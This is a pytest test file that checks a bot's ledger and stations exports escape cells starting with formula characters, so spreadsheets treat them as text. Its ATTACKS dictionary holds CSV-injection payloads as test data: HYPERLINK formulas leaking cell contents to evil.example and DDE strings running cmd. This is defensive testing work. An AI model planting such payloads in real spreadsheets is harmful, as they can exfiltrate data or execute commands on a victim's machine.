"""Exports are data, never formulas: every text cell of every CSV and Excel export that starts with
=, +, -, @, a tab or a carriage return is written as text; numbers and dates stay numbers and dates.

The exports: the ledger (/export, CSV and Excel; `python -m bot export` builds the same files) and the
stations file (/stations file and `python -m bot stations export`, CSV; there is no stations Excel file).
"""

import csv
import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook

from domain.cells import csv_text, from_csv
from domain.commands import ActOnAppeal, EventArgs, NewAppeal
from domain.lifecycle import Event
from domain.stations_file import read_stations
from storage.stations import Station
from tests.harness import START, running_bot

COURIER, STAFF, COORDINATOR = 1001, 500, 900
STARTS = ("=", "+", "-", "@", "\t", "\r")
# What each would do in a spreadsheet if it were evaluated.
ATTACKS = {start: f'{start}HYPERLINK("http://evil.example/?"&A1,"x")' for start in STARTS}
ATTACKS["-"] = "-2+3+cmd|' /C calc'!A0"
ATTACKS["@"] = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(data: bytes) -> list[list[str]]:
    """A CSV file's rows."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def documents(bot, user: int, count: int) -> list[bytes]:
    """The bytes of the newest `count` documents the bot sent."""
    found = [m for m in bot.core.bot_messages(user) if "document" in m][-count:]
    return [bot.core.file_bytes(bot.core.file_path(m["document"]["file_id"])) for m in found]


@pytest.fixture
async def bot(tmp_path):
    """One appeal per dangerous start: in the description, the typed place, the result and the station's name."""
    async with running_bot(tmp_path / "formulas.sqlite3") as running:
        storage = running.services.storage
        running.user(COORDINATOR, "Coordinator")
        await storage.people.seen(COURIER, "en", START)
        for index, start in enumerate(STARTS):
            await storage.stations.upsert(
                [Station(id=f"s-{index}", name=f"{start}Station {index}", lat=-31.5, lon=-121.25, grade="A")]
            )
            submitted = await storage.appeals.submit(
                NewAppeal(
                    courier_id=COURIER,
                    category="facilities",
                    description=ATTACKS[start],
                    language="en",
                    station_id=f"s-{index}",
                    place=f"{start}Gate {index}",
                ),
                "st1",
                START,
            )
            number = submitted.appeal.id
            await storage.appeals.apply(ActOnAppeal(number, Event.ACCEPT, STAFF, EventArgs()), START)
            await storage.appeals.apply(
                ActOnAppeal(number, Event.RESOLVE, STAFF, EventArgs(note=f"{start}1 fixed the charger")), START
            )
        await running.app.bot_data.sender.flush()
        yield running


@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_the_csv_escape_reads_back_exactly(start) -> None:
    """OWASP's apostrophe, and one more before an apostrophe that would be taken for it; reading undoes both."""
    for text in (f"{start}x", f"'{start}x", f"''{start}x"):
        assert csv_text(text) == "'" + text
        assert from_csv(csv_text(text)) == text
    assert csv_text("'plain") == "'plain" and from_csv("'plain") == "'plain"
    deep = "'" * 5000 + "=x"  # however many apostrophes a text starts with
    assert from_csv(csv_text(deep)) == deep


@pytest.mark.slow  # the bot's worker process builds or checks the file
async def test_ledger_csv_cells_are_text_and_numbers_stay_numbers(bot) -> None:
    """Each dangerous start in the description, the result and the station gets an apostrophe in a quoted
    field; the appeal number and the reopen count are bare numbers."""
    await bot.say(COORDINATOR, "/export 2026-11-23 2026-11-23")
    data, _ = documents(bot, COORDINATOR, 2)
    header, *rows = rows_of(data)
    column = {name: header.index(name) for name in ("Number", "Station", "Place", "Description", "Results", "Redos")}
    assert column["Place"] == column["Station"] + 1
    assert len(rows) == len(STARTS)
    for row, start in zip(rows, STARTS, strict=True):
        assert row[column["Description"]] == "'" + ATTACKS[start]
        assert row[column["Station"]] == f"'{start}Station {STARTS.index(start)}"
        assert row[column["Place"]] == f"'{start}Gate {STARTS.index(start)}"
        assert (
            row[column["Results"]] == "2026-11-23 10:00 " + f"{start}1 fixed the charger"
        )  # not at the start: left as it is
    text = data.decode("utf-8-sig")
    for start in STARTS:
        quoted = '"' + "'" + ATTACKS[start].replace('"', '""') + '"'
        assert quoted in text, start  # the whole field quoted, as OWASP asks
    lines = text.split("\r\n")
    assert lines[1].startswith('1,"') and ',0,"' in lines[1]  # number and reopen count unquoted


@pytest.mark.slow  # the bot's worker process builds or checks the file
async def test_ledger_excel_cells_are_strings_numbers_and_dates(bot) -> None:
    """Each dangerous start is a string cell holding exactly the text, quote-prefixed; no cell is a formula;
    the number is a number and the times are dates."""
    await bot.say(COORDINATOR, "/export 2026-11-23 2026-11-23")
    _, data = documents(bot, COORDINATOR, 2)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(io.BytesIO(data))["Ledger"]
    header = [c.value for c in sheet[1]]
    for row, start in zip(sheet.iter_rows(min_row=2), STARTS, strict=True):
        cells = dict(zip(header, row, strict=True))
        for name, text in (
            ("Description", ATTACKS[start]),
            ("Station", f"{start}Station {STARTS.index(start)}"),
            ("Place", f"{start}Gate {STARTS.index(start)}"),
        ):
            # XML reads a bare carriage return as a line feed; the cell is still that text.
            assert cells[name].value == text.replace("\r", "\n") and cells[name].data_type == "s", (start, name)
            assert cells[name].quotePrefix, (start, name)
        assert cells["Number"].data_type == "n" and cells["Number"].value == STARTS.index(start) + 1
        assert cells["Redos"].data_type == "n" and cells["Redos"].value == 0
        assert cells["Submitted"].is_date and cells["Submitted"].value == datetime(2026, 11, 23, 10, 0)
        assert not cells["Results"].quotePrefix  # a plain text is not marked
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.slow  # the bot's worker process builds or checks the file
async def test_stations_csv_cells_are_text_and_coordinates_numbers(bot) -> None:
    """/stations file: each dangerous start in a name is escaped in a quoted field; negative coordinates stay
    bare numbers; the file, sent back, reads the names as they were."""
    await bot.say(COORDINATOR, "/stations file")
    (data,) = documents(bot, COORDINATOR, 1)
    header, *rows = rows_of(data)
    for row, start in zip(rows, STARTS, strict=True):
        assert row[header.index("name")] == f"'{start}Station {STARTS.index(start)}"
    text = data.decode("utf-8-sig")
    assert '"\'=Station 0",' in text and ',-31.5,-121.25,"A",' in text
    # The importer refuses control characters in a name, so only the printable starts travel back.
    out = io.StringIO(newline="")
    csv.writer(out).writerows([header, *(row for row in rows if not any(c in row[1] for c in "\t\r"))])
    records = read_stations(out.getvalue().encode(), "csv", {"st1", "hr"})
    assert [r.name for r in records] == [f"{s}Station {i}" for i, s in enumerate(STARTS) if s not in "\t\r"]
    assert all(r.lat == -31.5 and r.lon == -121.25 for r in records)
